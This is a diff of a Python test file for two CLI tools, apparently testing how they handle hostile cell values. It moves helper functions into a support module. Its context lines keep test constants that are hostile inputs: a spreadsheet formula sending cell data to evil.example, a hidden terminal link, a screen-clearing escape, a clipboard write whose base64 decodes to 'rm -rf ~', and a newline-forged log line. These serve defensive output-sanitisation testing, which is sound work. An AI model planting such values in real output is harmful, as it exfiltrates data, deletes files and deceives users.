@@ -8,7 +8,6 @@ error message, from a small aiohttp server on 127.0.0.1."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -19,12 +18,10 @@ import pytest
 from _loopback import serve
 from aiohttp import web
 
-from bland_pools._cli import main as bland_main
 from bland_pools.testing import BlandEmulator
-from ghl_pools._cli import main as ghl_main
 from ghl_pools.testing import GHLEmulator
 
-from ._support import KEY, LOCATION, SAMPLE_POOL_ID, TOKEN, error_lines, run, table
+from ._support import KEY, LOCATION, SAMPLE_POOL_ID, TOKEN, bland, error_lines, ghl, table
 
 # The issue's three cells, as a sub-account user can type them.
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -35,15 +32,6 @@ OSC8_LINK = "\x1b]8;;http://evil.example\x1b\\Click me\x1b]8;;\x1b\\"
 CLEAR = "\x1b[2J\x1b[HAll good"
 OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
 FORGED = "multi\nline  delete pool 1234"
-
-
-async def bland(*argv: str) -> int:
-    """``bland-pools`` in a thread (it runs its own loop) while servers run on this one."""
-    return await asyncio.to_thread(run, bland_main, argv)
-
-
-async def ghl(*argv: str) -> int:
-    return await asyncio.to_thread(run, ghl_main, argv)
 
 
 def bland_args(base_url: str, *argv: str) -> list[str]:
